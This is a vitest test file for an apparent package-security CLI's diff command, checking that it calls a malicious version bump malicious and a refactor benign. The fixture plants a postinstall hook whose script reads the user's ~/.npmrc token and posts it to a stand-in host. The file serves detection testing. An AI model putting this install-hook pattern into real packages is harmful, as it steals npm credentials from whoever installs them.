import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { makeTgz, type TestEntry } from '../../src/tarball/testdata/make-tarball.js';
import { makeHome, runCli } from './run-cli.js';

const home = makeHome();
const INDEX = 'module.exports = (a, b) => a + b;\n';
const TELEMETRY = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "const https = require('https');",
  "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
  'req.end(token);',
].join('\n');

const pkg = (version: string, extra: Record<string, unknown> = {}): TestEntry => ({
  name: 'package/package.json',
  content: JSON.stringify({ name: 'adder-fixture', version, main: 'index.js', ...extra }),
});

const clean = join(home, 'adder-fixture-1.0.0.tgz');
const turned = join(home, 'adder-fixture-1.0.1.tgz');
const refactorDir = join(home, 'adder-fixture-1.1.0');

beforeAll(async () => {
  writeFileSync(clean, await makeTgz([pkg('1.0.0'), { name: 'package/index.js', content: INDEX }]));
  writeFileSync(
    turned,
    await makeTgz([
      pkg('1.0.1', { scripts: { postinstall: 'node telemetry.js' } }),
      { name: 'package/index.js', content: INDEX },
      { name: 'package/telemetry.js', content: TELEMETRY },
    ]),
  );
  mkdirSync(join(refactorDir, 'lib'), { recursive: true });
  writeFileSync(
    join(refactorDir, 'package.json'),
    JSON.stringify({ name: 'adder-fixture', version: '1.1.0' }),
  );
  writeFileSync(join(refactorDir, 'index.js'), "module.exports = require('./lib/add.js');\n");
  writeFileSync(join(refactorDir, 'lib/add.js'), 'module.exports = function add(a, b) { return a + b; };\n');
});

describe('bulwark diff (bundled CLI)', () => {
  it('calls the xmlrpc-style turn malicious in JSON, with the findings that drove it, and exits 1', () => {
    const run = runCli(['diff', clean, turned, '--format', 'json'], { home });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report.verdict).toBe('malicious');
    expect(report.added).toEqual(expect.arrayContaining(['install-scripts', 'network']));
    expect(report.removed).toEqual([]);
    expect(report.hosts).toContain('collector.invalid');
    expect(report.installScripts).toEqual([{ script: 'postinstall', to: 'node telemetry.js' }]);
    expect(report.findings.length).toBeGreaterThan(0);
    for (const finding of report.findings) {
      expect(finding).toMatchObject({ rule: expect.any(String), severity: expect.any(String) });
      expect(['telemetry.js', 'package.json', null]).toContain(finding.file);
    }
  });

  it('prints the transition verdict first in the table report', () => {
    const run = runCli(['diff', clean, turned], { home });
    expect(run.status).toBe(1);
    const lines = run.stdout.split('\n');
    expect(lines[0]).toBe('adder-fixture@1.0.0 → adder-fixture@1.0.1: MALICIOUS');
    expect(run.stdout).toContain('  + postinstall: node telemetry.js');
  });

  it('calls a refactor (tarball → directory) benign and exits 0, even with --fail-on suspicious', () => {
    const run = runCli(['diff', clean, refactorDir, '-f', 'json', '--fail-on', 'suspicious'], { home });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const report = JSON.parse(run.stdout);
    expect(report).toMatchObject({ verdict: 'benign', findings: [], reasons: [] });
    expect(report.files).toEqual({
      added: ['lib/add.js'],
      removed: [],
      changed: ['index.js', 'package.json'],
    });
  });

  it('exits 0 on a malicious turn with --fail-on never', () => {
    expect(runCli(['diff', clean, turned, '--fail-on', 'never'], { home }).status).toBe(0);
  });

  it('answers bad input with one line and exit code 2', () => {
    const cases = [
      ['diff', clean, './missing.tgz'],
      ['diff', clean, turned, '--fail-on', 'sometimes'],
      ['diff', clean, turned, '--format', 'sarif'],
      ['diff', 'left-pad@1.0.0', '1.0.0', '1.1.0'],
      ['diff', 'left-pad', '1.0.0', 'a/b'],
      ['diff', clean],
      ['diff', 'adder-fixture', '1.0.0', '1.0.1', '--offline'],
    ];
    for (const args of cases) {
      const run = runCli(args, { home });
      expect(run.status, args.join(' ')).toBe(2);
      expect(run.stderr.split('\n').filter(Boolean), args.join(' ')).toHaveLength(1);
      expect(run.stderr).toMatch(/^bulwark: /);
    }
  });
});
